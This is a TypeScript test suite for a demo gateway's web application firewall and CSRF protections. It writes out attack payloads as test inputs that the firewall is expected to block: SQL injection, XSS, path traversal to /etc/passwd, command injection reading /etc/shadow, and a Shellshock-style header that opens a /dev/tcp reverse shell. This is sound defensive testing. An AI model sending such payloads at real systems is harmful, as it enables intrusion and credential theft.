import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { call, type Answer } from '../support/harness.ts';
import { runCli, startDemo, type RunningDemo } from '../support/cli.ts';
import { assertProblem } from '../support/assertions.ts';

// DEMO.md "Web protections" is a contract: the demo is started as `npm start` starts it
// and each expected answer is checked over HTTP.

let demo: RunningDemo;
let gw: string;
let dataDir: string;

before(async () => {
  demo = await startDemo('pinpoint-webdemo-test-');
  gw = demo.gateway;
  dataDir = demo.dataDir;
});

after(async () => {
  const code = await demo.stop();
  assert.equal(code, 0);
});

const comment = (body: string, contentType = 'application/json', headers: Record<string, string> = {}): Promise<Answer> =>
  call(`${gw}/api/comments`, { method: 'POST', headers: { 'x-api-key': 'pk_demo_writer', 'content-type': contentType, ...headers }, body });

describe('demo /api/comments behind the WAF', () => {
  const attacks: [string, string][] = [
    ['SQL injection', JSON.stringify({ comment: "nice' OR '1'='1' --" })],
    ['UNION-based SQL injection', JSON.stringify({ comment: '1 UNION SELECT username, password FROM users' })],
    ['cross-site scripting', JSON.stringify({ comment: '<script>alert(document.cookie)</script>' })],
    ['an event-handler XSS', JSON.stringify({ author: { name: '<img src=x onerror=alert(1)>' } })],
    ['path traversal', JSON.stringify({ attachment: '../../../../etc/passwd' })],
    ['command injection', JSON.stringify({ comment: 'hello; cat /etc/shadow' })],
    ['command substitution', JSON.stringify({ comment: 'x $(whoami)' })],
  ];
  for (const [name, body] of attacks) {
    test(`${name} in a JSON body gets 403 waf_blocked naming only the rule`, async () => {
      const a = await comment(body);
      assertProblem(a, 403, 'waf_blocked');
      assert.match(a.json.detail as string, /^Blocked by web application firewall rule [a-z]+-\d{3}\.$/);
      assert.equal(a.json.evidence, undefined, 'the caller does not see the matched fragment');
    });
  }

  test('an attack in a form body, the query string or a header is blocked too', async () => {
    assertProblem(await comment('comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/x-www-form-urlencoded'), 403, 'waf_blocked');
    assertProblem(await call(`${gw}/api/comments?ref=${encodeURIComponent("' or 1=1--")}`, { method: 'POST', headers: { 'x-api-key': 'pk_demo_writer', 'content-type': 'application/json' }, body: '{}' }), 403, 'waf_blocked');
    assertProblem(await comment('{}', 'application/json', { 'x-comment-source': '() { :; }; /bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }), 403, 'waf_blocked');
  });

  test('ordinary prose, code snippets and names like O\'Brien get 201', async () => {
    for (const text of [
      "Thanks Siobhan O'Brien — the fix in v2.3 works. I'd select the 'Union Jack' theme from the drop-down.",
      'Use `const rows = await db.query("SELECT id FROM orders WHERE total > $1", [100]);` and check rows.length.',
      'See https://example.com/docs?page=2&sort=desc#install for the steps; 5 > 3 and 2 < 4.',
    ]) {
      const a = await comment(JSON.stringify({ comment: text, author: "D'Angelo" }));
      assert.equal(a.status, 201, `${text}\n${a.text}`);
      assert.equal((a.json.body as { comment: string }).comment, text, 'the upstream receives the body unchanged');
    }
  });

  test('explain names the rule, the request part and the matched fragment, and the one-line exception', async () => {
    const a = await comment(JSON.stringify({ comment: "x' or 1=1 --" }));
    const x = runCli(['explain', a.json.requestId as string, '--data-dir', dataDir]);
    assert.equal(x.status, 0, x.stderr);
    assert.match(x.stdout, /rule=sqli-001/);
    assert.match(x.stdout, /part=body\.\$\.comment/);
    assert.match(x.stdout, /fragment=' or 1=/);
    assert.match(x.stdout, /- \{ rule: sqli-001, part: "body\.\$\.comment" \}/);
  });

  test('a body over 64 KB gets 413 payload_too_large', async () => {
    assertProblem(await comment(JSON.stringify({ comment: 'a'.repeat(70_000) })), 413, 'payload_too_large');
  });
});

describe('demo /web/login and /web/profile', () => {
  let cookie = '';
  let token = '';

  before(async () => {
    const res = await fetch(`${gw}/web/login`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'user=alice' });
    assert.equal(res.status, 200);
    const json = await res.json() as { csrfToken: string };
    token = json.csrfToken;
    const set = res.headers.getSetCookie();
    assert.equal(set.length, 2);
    assert.match(set.find((c) => c.startsWith('pp_session='))!, /HttpOnly/);
    cookie = set.map((c) => c.split(';', 1)[0]).join('; ');
  });

  const post = (headers: Record<string, string>) => call(`${gw}/web/profile`, { method: 'POST', headers: { cookie, 'content-type': 'application/x-www-form-urlencoded', ...headers }, body: 'displayName=Alice' });

  test('GET /web/profile with the session cookie is 200', async () => {
    assert.equal((await call(`${gw}/web/profile`, { headers: { cookie } })).status, 200);
  });

  test('POST without the token is 403 csrf_token_missing', async () => {
    assertProblem(await post({}), 403, 'csrf_token_missing');
  });

  test('POST with a wrong token is 403 csrf_token_invalid', async () => {
    assertProblem(await post({ 'x-csrf-token': 'wrong' }), 403, 'csrf_token_invalid');
  });

  test('POST with Sec-Fetch-Site: cross-site or a foreign Origin is 403 cross_site_request', async () => {
    assertProblem(await post({ 'x-csrf-token': token, 'sec-fetch-site': 'cross-site' }), 403, 'cross_site_request');
    assertProblem(await post({ 'x-csrf-token': token, origin: 'http://attacker.example' }), 403, 'cross_site_request');
  });

  test('POST with the token from the gateway\'s own origin is accepted (header or form field)', async () => {
    assert.equal((await post({ 'x-csrf-token': token, origin: gw })).status, 201);
    const form = await call(`${gw}/web/profile`, { method: 'POST', headers: { cookie, 'content-type': 'application/x-www-form-urlencoded', origin: gw }, body: `displayName=Alice&csrf_token=${encodeURIComponent(token)}` });
    assert.equal(form.status, 201, form.text);
  });
});
